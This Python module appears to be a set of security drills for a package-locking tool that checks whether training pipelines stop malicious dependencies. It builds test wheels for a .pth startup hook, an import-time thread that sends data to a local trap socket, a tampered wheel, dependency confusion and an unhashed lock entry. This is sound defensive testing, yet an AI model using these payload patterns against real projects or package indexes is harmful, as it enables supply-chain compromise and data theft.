"""Drills: packages that training installs and that are not what somebody reviewed."""

from __future__ import annotations

from dataclasses import replace
from email.parser import BytesParser
from typing import TYPE_CHECKING, Final

from packaging.requirements import Requirement
from packaging.utils import canonicalize_name

from lockgate.drills.replays import packages
from lockgate.drills.replays.packages import Locked, Wheel, served, wheel
from lockgate.drills.replays.records import settings
from lockgate.drills.replays.spec import Drill, NotApplicable, Tried
from lockgate.drills.replays.trap import attempted, listening

if TYPE_CHECKING:
    from lockgate.drills.replays.scene import Scene

_SECONDS: Final = 900.0
"""For a training, on a machine that does much else."""

_HOOK: Final = "drill-hook"
_THIEF: Final = "drill-thief"
_OWN: Final = "drill-internal"
_HELPER: Final = "drill-helper"

_STEALING: Final = """import threading


def _steal():
    import socket

    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=2) as line:
            line.sendall(b"what training sees")
    except OSError:
        pass


_thread = threading.Thread(target=_steal)
_thread.start()
_thread.join()
"""


def _start_up(scene: Scene) -> Tried:
    hook = wheel(
        _HOOK, {"drill_hook.py": "", "drill_hook.pth": "import drill_hook, os; os.environ.setdefault('X', '1')\n"}
    )
    store = packages.store(scene, unpacked=True)
    store.lock.write_text(store.lock.read_text("utf-8") + hook.line, "utf-8")
    with served(public=(hook,)) as index:
        done = store.fetching(index.address("public")).lockgate("train", seconds=_SECONDS)
    did = f"had a refreshed lock name {_HOOK}, whose .pth runs code whenever Python starts"
    return Tried(did, done.command, (done.document,), reached=done.ok)


def _at_import(scene: Scene) -> Tried:
    store = packages.store(scene, unpacked=True)
    code = packages.training_code(scene)
    code.write_text(code.read_text("utf-8") + "\nimport drill_thief\n", "utf-8")
    with listening() as (port, asked):
        thief = wheel(_THIEF, {"drill_thief.py": _STEALING.format(port=port)})
        store.lock.write_text(store.lock.read_text("utf-8") + thief.line, "utf-8")
        with served(public=(thief,)) as index:
            done = store.fetching(index.address("public")).lockgate("train", "--env", scene.strict, seconds=_SECONDS)
    did = f"had training import {_THIEF}, which starts a thread that sends away what it finds"
    return Tried(did, done.command, attempted(done, f"127.0.0.1:{port}"), reached=bool(asked))


def _changed(scene: Scene) -> Tried:
    store = packages.store(scene)
    victim = min(store.locked, key=lambda one: one.file.stat().st_size)
    honest = victim.read()
    store.forget(victim)
    swapped = replace(honest, data=honest.data + b"\0")
    with served(public=(swapped,)) as index:
        done = store.fetching(index.address("public")).lockgate("train", seconds=_SECONDS)
    did = f"changed the wheel of {victim.name} {victim.version} on the index, which still tells the locked SHA-256"
    return Tried(did, done.command, (done.document,), reached=done.ok)


def _unlocked(scene: Scene) -> Tried:
    evil = wheel(_HELPER, {"drill_helper.py": ""})
    store = packages.store(scene)
    store.lock.write_text(store.lock.read_text("utf-8") + f"{evil.name}=={evil.version}\n", "utf-8")
    with served(public=(evil,)) as index:
        done = store.fetching(index.address("public")).lockgate("train", seconds=_SECONDS)
    did = f"added {evil.name} to the lock by its version alone, for the index to give what it likes"
    return Tried(did, done.command, (done.document,), reached=done.ok)


def _confusion(scene: Scene) -> Tried:
    """The project's own package lies in an index of its own; the attacker uploads its name, newer, to the public one.

    First the project names it itself, and must get its own. Then a public package asks for it.
    """
    own, theirs = wheel(_OWN, {"drill_internal.py": ""}), wheel(_OWN, {"drill_internal.py": ""}, version="99.0")
    helper = wheel(_HELPER, {"drill_helper.py": ""}, needs=f"{_OWN}>=1")
    store = packages.store(scene)
    names = {one.name for one in store.locked}
    public = (*(_of_these(one, names) for one in store.locked), theirs, helper)
    wanted = scene.root / str(settings(scene).get("environment", {}).get("requirements", "requirements.in"))
    if wanted.suffix == ".toml":
        raise NotApplicable("the project's requirements are in a file with other settings")
    with served(public=public, internal=(own,)) as index:
        machine = store.fetching(index.address("public"))
        packages.without(scene, "environment.indexes", "environment.packages")
        packages.add_setting(scene, "environment.indexes", f'drill = "{index.address("internal")}"')
        packages.add_setting(scene, "environment.packages", f'{_OWN} = "drill"')
        wanted.write_text(f"{_OWN}\n", "utf-8")
        machine.must("lock")
        first = _OWN in store.lock.read_text("utf-8") and theirs.sha256 not in store.lock.read_text("utf-8")
        asked = f"/public/simple/{_OWN}/" in index.asked
        wanted.write_text(f"{_HELPER}\n", "utf-8")
        done = machine.lockgate("lock")
    reached = asked or not first or theirs.sha256 in store.lock.read_text("utf-8")
    # The same finding is told where no versions fit together: only this one names the index.
    told = done.document if done.document and done.document.get("seen", {}).get("index") == "drill" else None
    did = f"uploaded {_OWN} 99.0 to the public index, where a package asks for it that the project takes"
    return Tried(did, done.command, (told,), reached=reached)


def _of_these(one: Locked, names: set[str]) -> Wheel:
    """The wheel, without what it needs beside the locked packages: the drill's index has these alone."""
    found = one.listed()
    needs = BytesParser().parsebytes(found.metadata).get_all("Requires-Dist", [])
    kept = [need for need in needs if canonicalize_name(Requirement(need).name) in names and "extra" not in need]
    lines = [f"Requires-Dist: {need}\n" for need in kept]
    text = f"Metadata-Version: 2.1\nName: {found.name}\nVersion: {found.version}\n" + "".join(lines)
    return replace(found, metadata=text.encode())


DRILLS: tuple[Drill, ...] = (
    Drill(
        "start-up-hook",
        "brings a wheel with a .pth line that runs whenever Python starts",
        "LT06",
        "startup-hook-scan",
        "LG345",
        _start_up,
        incident=1,
        limit="code that waits for its import is no hook: a lock that was refreshed too early has the jail alone",
    ),
    Drill(
        "import-time-thief",
        "brings a wheel that sends away what training sees as soon as it is imported",
        "LT06",
        "training-without-network",
        "LG330",
        _at_import,
        incident=2,
        limit="whoever imports the package outside of the jail, on a machine of their own, has nothing between",
    ),
    Drill(
        "changed-wheel",
        "changes the bytes of a locked wheel on the index",
        "LT06",
        "hash-lock",
        "LG343",
        _changed,
        incident=3,
        limit="a wheel that was hostile when it was locked keeps its hash",
    ),
    Drill(
        "dependency-confusion",
        "uploads a package of the project's own name to the public index",
        "LT07",
        "one-index",
        "LG350",
        _confusion,
        incident=4,
    ),
    Drill(
        "unlocked-package",
        "adds a package to the lock by its version alone",
        "LT06",
        "hash-lock",
        "LG341",
        _unlocked,
    ),
)
